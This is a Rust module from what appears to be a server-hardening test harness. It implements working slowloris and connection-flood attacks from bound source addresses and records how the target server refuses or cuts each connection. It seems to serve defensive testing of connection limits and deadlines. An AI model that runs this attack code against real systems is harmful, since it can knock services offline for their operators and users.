//! The attackers: `connections` connections from one thread, each opened again when the server
//! closes it, in one of two ways.
//!
//! - **Slow** (slowloris): the connections open over the first `gap`, and each sends its
//!   request one byte every `gap`, never finishing it (a hello and a frame that never ends for `serve`; a request head that never
//!   ends for HTTP). A connection the server closes is opened again one `gap` later.
//! - **Flood**: connections opened as fast as `flood_rate` allows and held silent; one the
//!   server closes is opened again at once.
//!
//! Each connection's end is counted by how the server ended it: a 503 (the daemon's refusal),
//! closed within [`AT_ONCE`] without a word (`serve`'s refusal), cut later (a deadline), or
//! still open when the attack ends.

use serde::Serialize;
use socket2::{Domain, SockAddr, Socket, Type};
use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use super::net::Source;

/// A close this soon after the connect, before any answer, is a refusal.
pub const AT_ONCE: Duration = Duration::from_secs(1);
const TICK: Duration = Duration::from_millis(100);
const CONNECT_TIMEOUT: Duration = Duration::from_secs(2);

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    Slow,
    Flood,
}

impl Kind {
    pub fn name(self) -> &'static str {
        match self {
            Kind::Slow => "slow",
            Kind::Flood => "flood",
        }
    }
}

/// One attack.
#[derive(Debug, Clone)]
pub struct Attack {
    pub kind: Kind,
    pub source: Source,
    pub port: u16,
    pub connections: usize,
    pub seconds: f64,
    pub gap: Duration,
    /// Flood: connects a second, at most.
    pub flood_rate: u32,
    /// Slow: the bytes sent, one at a time, from the start again at their end.
    pub script: Vec<u8>,
}

/// What became of the attack's connections.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Outcomes {
    pub connects: u64,
    /// Connects that failed (refused, timed out, no address).
    pub connect_errors: u64,
    /// Answered `503` (the daemon's page and metrics).
    pub refused_503: u64,
    /// Closed within [`AT_ONCE`] with no answer (`serve`'s refusal).
    pub closed_at_once: u64,
    /// Closed later by the server (its deadlines), and the longest any was held.
    pub cut: u64,
    pub longest_held_s: f64,
    /// Open when the attack ended.
    pub held_at_end: u64,
    /// The most open at once.
    pub most_open: u64,
    /// The first refusal's text (a 503's body), as the server wrote it.
    pub refusal: Option<String>,
}

struct Conn {
    stream: TcpStream,
    opened: Instant,
    sent: usize,
    answered: bool,
}

struct Slot {
    conn: Option<Conn>,
    /// The next byte (slow), or the next connect when closed.
    next: Instant,
}

/// Runs `attack` in the calling thread's network namespace until its time is up.
pub fn run(attack: &Attack) -> Outcomes {
    let start = Instant::now();
    let until = start + Duration::from_secs_f64(attack.seconds);
    let mut out = Outcomes::default();
    let n = attack.connections.max(1);
    // The first connects spread over one gap (slow: a steady drip from the start).
    let mut slots: Vec<Slot> = (0..n)
        .map(|i| Slot {
            conn: None,
            next: start + attack.gap.mul_f64(i as f64 / n as f64),
        })
        .collect();
    let mut opened = 0usize;
    // Flood: at most `flood_rate` connects a second.
    let per_tick = match attack.kind {
        Kind::Slow => usize::MAX,
        Kind::Flood => (attack.flood_rate as usize / 10).max(1),
    };
    while Instant::now() < until {
        let tick = Instant::now();
        let mut budget = per_tick;
        for slot in &mut slots {
            let now = Instant::now();
            if let Some(c) = slot.conn.as_mut() {
                if let Some(ended) = poll(c, attack, true, now, &mut out) {
                    let held = now.duration_since(c.opened);
                    count_end(&mut out, ended, held, c.answered);
                    slot.conn = None;
                    slot.next = match attack.kind {
                        Kind::Slow => now + attack.gap,
                        Kind::Flood => now,
                    };
                }
            } else if now >= slot.next && budget > 0 {
                budget -= 1;
                let (from, to) = attack.source.pick(opened);
                opened += 1;
                match connect(from, SocketAddr::new(to, attack.port)) {
                    Ok(stream) => {
                        out.connects += 1;
                        slot.conn = Some(Conn {
                            stream,
                            opened: now,
                            sent: 0,
                            answered: false,
                        });
                    }
                    Err(_) => {
                        out.connect_errors += 1;
                        slot.next = now + TICK;
                    }
                }
            }
        }
        let open = slots.iter().filter(|s| s.conn.is_some()).count() as u64;
        out.most_open = out.most_open.max(open);
        std::thread::sleep(TICK.saturating_sub(tick.elapsed()));
    }
    // The server's last answers (a 503 to a connect of the last tick) are read before counting
    // what is still held.
    std::thread::sleep(TICK);
    let now = Instant::now();
    for slot in &mut slots {
        if let Some(c) = slot.conn.as_mut() {
            if let Some(ended) = poll(c, attack, false, now, &mut out) {
                count_end(&mut out, ended, now.duration_since(c.opened), c.answered);
                slot.conn = None;
            }
        }
    }
    out.held_at_end = slots.iter().filter(|s| s.conn.is_some()).count() as u64;
    out
}

enum Ended {
    Refused503,
    Closed,
}

fn count_end(out: &mut Outcomes, ended: Ended, held: Duration, answered: bool) {
    match ended {
        Ended::Refused503 => out.refused_503 += 1,
        Ended::Closed if held < AT_ONCE && !answered => out.closed_at_once += 1,
        Ended::Closed => {
            out.cut += 1;
            out.longest_held_s = out.longest_held_s.max(held.as_secs_f64());
        }
    }
}

/// Reads what the server said, and (slow, with `drip`) sends the next byte when it is due;
/// `Some` when the connection has ended.
fn poll(
    c: &mut Conn,
    attack: &Attack,
    drip: bool,
    now: Instant,
    out: &mut Outcomes,
) -> Option<Ended> {
    let mut buf = [0u8; 2048];
    loop {
        match c.stream.read(&mut buf) {
            Ok(0) => return Some(Ended::Closed),
            Ok(len) => {
                let got = &buf[..len];
                if !c.answered && got.starts_with(b"HTTP/1.1 503") {
                    if out.refusal.is_none() {
                        out.refusal = body_line(got);
                    }
                    return Some(Ended::Refused503);
                }
                c.answered = true;
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => break,
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(_) => return Some(Ended::Closed),
        }
    }
    let due = drip
        && attack.kind == Kind::Slow
        && !attack.script.is_empty()
        && now >= c.opened + attack.gap.mul_f64(c.sent as f64);
    if due {
        let byte = attack.script[c.sent % attack.script.len()];
        match c.stream.write(&[byte]) {
            Ok(_) => c.sent += 1,
            Err(e) if e.kind() == ErrorKind::WouldBlock => {}
            Err(_) => return Some(Ended::Closed),
        }
    }
    None
}

/// The first line of an HTTP answer's body.
fn body_line(answer: &[u8]) -> Option<String> {
    let text = String::from_utf8_lossy(answer);
    let (_, body) = text.split_once("\r\n\r\n")?;
    Some(body.lines().next()?.to_string())
}

/// A connection from `from` (port chosen by the kernel), non-blocking once open, closed with a
/// reset when dropped (no TIME_WAIT left on the attacker's ports).
fn connect(from: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let s = Socket::new(Domain::for_address(to), Type::STREAM, None)?;
    s.bind(&SockAddr::from(SocketAddr::new(from, 0)))?;
    s.connect_timeout(&SockAddr::from(to), CONNECT_TIMEOUT)?;
    s.set_linger(Some(Duration::ZERO))?;
    s.set_nodelay(true)?;
    s.set_nonblocking(true)?;
    Ok(s.into())
}
